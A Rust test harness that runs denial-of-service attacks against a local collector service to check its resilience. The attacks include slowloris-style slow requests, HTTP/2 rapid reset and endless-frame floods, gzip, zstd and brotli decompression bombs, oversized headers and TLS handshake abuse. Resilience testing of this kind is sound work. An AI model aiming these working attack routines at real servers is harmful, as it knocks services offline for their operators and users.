//! Attacks, each of which runs for as long as it is polled.

#[path = "attack_tls.rs"]
mod tls;

use std::io::Read;
use std::net::SocketAddr;
use std::process::{Child, Command, Stdio};
use std::sync::LazyLock;
use std::time::Duration;

use flate2::Compression;
use flate2::read::GzEncoder;
use futures::future::join_all;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::sleep;

/// The attacks of reliability 3.1 that apply to the collector.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Silent connections, more than the limit.
    Silent,
    /// Heads that arrive a byte at a time.
    SlowHeads,
    /// Bodies that arrive a byte at a time.
    SlowBodies,
    /// HTTP/2 streams that are opened and reset at once.
    RapidReset,
    /// HTTP/2 pings and settings without end.
    Frames,
    /// HTTP/2 heads that never end.
    EndlessHead,
    /// gzip that inflates a thousandfold.
    GzipBombs,
    /// zstd that inflates ten thousandfold.
    ZstdBombs,
    /// Brotli that inflates a hundred thousandfold.
    BrotliBombs,
    /// Heads and addresses above every limit.
    LargeHeads,
    /// Chunks with extensions longer than the data.
    ChunkExtensions,
    /// TLS handshakes that arrive a byte at a time.
    SlowHello,
    /// Connections that send a client hello and nothing more, more than the limit.
    OnlyHello,
    /// The same, with the client's direction of the connection closed.
    HalfClosed,
    /// Random bytes instead of a handshake.
    Noise,
    /// A handshake message that claims 16 MiB, and is sent.
    EndlessHello,
    /// Complete handshakes, one after another, without a request.
    Handshakes,
    /// A handshake, and then endless key updates, which TLS 1.3 has instead of renegotiation.
    NewKeys,
}

/// Attacks on a collector without TLS.
pub const PLAIN: [Attack; 11] = [
    Attack::Silent,
    Attack::SlowHeads,
    Attack::SlowBodies,
    Attack::RapidReset,
    Attack::Frames,
    Attack::EndlessHead,
    Attack::GzipBombs,
    Attack::ZstdBombs,
    Attack::BrotliBombs,
    Attack::LargeHeads,
    Attack::ChunkExtensions,
];

/// Attacks on a collector with TLS.
pub const TLS: [Attack; 8] = [
    Attack::Silent,
    Attack::SlowHello,
    Attack::OnlyHello,
    Attack::HalfClosed,
    Attack::Noise,
    Attack::EndlessHello,
    Attack::Handshakes,
    Attack::NewKeys,
];

/// The variable that names the attack and the address for an attacker's process.
const WHAT: &str = "TALLYLIGHT_TEST_ATTACK";
const GREETING: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
static GZIP: LazyLock<Vec<u8>> =
    LazyLock::new(|| whole(GzEncoder::new(plain_text(), Compression::best())));
static ZSTD: LazyLock<Vec<u8>> = LazyLock::new(|| zstd::encode_all(plain_text(), 3).unwrap());
static BROTLI: LazyLock<Vec<u8>> =
    LazyLock::new(|| whole(brotli::CompressorReader::new(plain_text(), 4_096, 5, 22)));
const BODY_HEAD: &str = "POST /v1/cmcd?k=demo HTTP/1.1\r\nhost: x\r\n";

/// 64 MiB of one letter, the content of every bomb.
fn plain_text() -> impl Read {
    std::io::repeat(b'a').take(64 << 20)
}

fn whole(mut reader: impl Read) -> Vec<u8> {
    let mut bytes = Vec::new();
    reader.read_to_end(&mut bytes).unwrap();
    bytes
}

/// An attacker in its own process, at the lowest priority: the test measures its effect on the
/// collector, not the load of the attacker itself.
pub struct Attacker(Child);

pub fn start(attack: Attack, addr: SocketAddr) -> Attacker {
    let child = Command::new("nice")
        .args(["-n", "19"])
        .arg(std::env::current_exe().unwrap())
        .args(["--exact", "the_attacker", "--ignored", "--nocapture"])
        .env(WHAT, format!("{attack:?} {addr}"))
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .spawn();
    Attacker(child.unwrap())
}

impl Attacker {
    /// Whether it is still attacking.
    pub fn is_there(&mut self) -> bool {
        self.0.try_wait().unwrap().is_none()
    }
}

impl Drop for Attacker {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// The main function of an attacker's process; an ignored test named `the_attacker` calls it.
pub async fn be_the_attacker() {
    let Ok(what) = std::env::var(WHAT) else { return };
    let (name, addr) = what.split_once(' ').unwrap();
    let attack = PLAIN.into_iter().chain(TLS).find(|one| format!("{one:?}") == name);
    run(attack.unwrap(), addr.parse().unwrap()).await;
}

/// Attacks until it is dropped.
async fn run(attack: Attack, addr: SocketAddr) {
    let crowd = match attack {
        Attack::Silent | Attack::OnlyHello | Attack::HalfClosed => 400,
        Attack::SlowHeads | Attack::SlowBodies | Attack::SlowHello => 200,
        Attack::Handshakes => 32,
        _ => 4,
    };
    join_all((0..crowd).map(|_| one(attack, addr))).await;
}

async fn one(attack: Attack, addr: SocketAddr) {
    loop {
        if let Ok(mut stream) = connect(addr).await {
            let _ = once(attack, &mut stream).await;
        }
        // Reconnect a moment after the cut.
        let pause = match attack {
            Attack::Silent | Attack::OnlyHello | Attack::HalfClosed => 3_000,
            Attack::Handshakes => 0,
            _ => 200,
        };
        sleep(Duration::from_millis(pause)).await;
    }
}

/// Connects from another address than the good clients'.
async fn connect(addr: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(([127, 0, 0, 2], 0).into())?;
    socket.connect(addr).await
}

async fn once(attack: Attack, stream: &mut TcpStream) -> std::io::Result<()> {
    match attack {
        Attack::Silent => drop(stream.read_u8().await),
        Attack::SlowHeads => drip(stream, b"GET /healthz HTTP/1.1\r\nx: ").await?,
        Attack::SlowBodies => {
            drip(stream, format!("{BODY_HEAD}content-length: 9999\r\n\r\n").as_bytes()).await?;
        }
        Attack::RapidReset => {
            stream.write_all(GREETING).await?;
            for number in (1_u32..20_000).step_by(2) {
                stream
                    .write_all(&[get(number), frame(3, 0, number, &[0, 0, 0, 8])].concat())
                    .await?;
            }
        }
        Attack::Frames => {
            stream.write_all(GREETING).await?;
            let frames = [frame(6, 0, 0, &[0; 8]), frame(4, 0, 0, &[])].concat().repeat(64);
            loop {
                stream.write_all(&frames).await?;
            }
        }
        Attack::EndlessHead => {
            stream.write_all(GREETING).await?;
            stream.write_all(&frame(1, 0, 1, b"\x82\x86\x84")).await?;
            loop {
                stream.write_all(&frame(9, 0, 1, &b"\x40\x01a\x01b".repeat(1_000))).await?;
            }
        }
        Attack::GzipBombs => bombs(stream, "gzip", &GZIP).await?,
        Attack::ZstdBombs => bombs(stream, "zstd", &ZSTD).await?,
        Attack::BrotliBombs => bombs(stream, "br", &BROTLI).await?,
        Attack::LargeHeads => {
            let long = "a".repeat(70_000);
            stream
                .write_all(format!("GET /?{long} HTTP/1.1\r\nx: {long}\r\n\r\n").as_bytes())
                .await?;
            answer(stream).await?;
        }
        Attack::ChunkExtensions => {
            stream
                .write_all(format!("{BODY_HEAD}transfer-encoding: chunked\r\n\r\n").as_bytes())
                .await?;
            loop {
                stream.write_all(format!("1;{}\r\na\r\n", "x".repeat(1_000)).as_bytes()).await?;
            }
        }
        Attack::SlowHello => tls::slow(stream).await?,
        Attack::OnlyHello => tls::only_hello(stream, false).await?,
        Attack::HalfClosed => tls::only_hello(stream, true).await?,
        Attack::Noise => tls::noise(stream).await?,
        Attack::EndlessHello => tls::endless(stream).await?,
        Attack::Handshakes => tls::handshake(stream).await?,
        Attack::NewKeys => tls::new_keys(stream).await?,
    }
    Ok(())
}

/// The same bomb again and again.
async fn bombs(stream: &mut TcpStream, encoding: &str, bomb: &[u8]) -> std::io::Result<()> {
    let length = bomb.len();
    let headers = format!("content-encoding: {encoding}\r\ncontent-length: {length}\r\n\r\n");
    let request = [BODY_HEAD.as_bytes(), headers.as_bytes(), bomb].concat();
    for _ in 0..50 {
        stream.write_all(&request).await?;
        answer(stream).await?;
    }
    Ok(())
}

/// Sends a beginning, and then a byte ten times a second.
async fn drip(stream: &mut TcpStream, begin: &[u8]) -> std::io::Result<()> {
    stream.write_all(begin).await?;
    loop {
        sleep(Duration::from_millis(100)).await;
        stream.write_all(b"a").await?;
    }
}

/// Reads once.
async fn answer(stream: &mut TcpStream) -> std::io::Result<()> {
    match stream.read(&mut [0; 4_096]).await? {
        0 => Err(std::io::ErrorKind::UnexpectedEof.into()),
        _ => Ok(()),
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = payload.len() as u32;
    let mut frame = length.to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// HEADERS, ended: GET, http, the authority x, and `/healthz`.
fn get(stream: u32) -> Vec<u8> {
    frame(1, 5, stream, b"\x82\x86\x41\x01x\x04\x08/healthz")
}
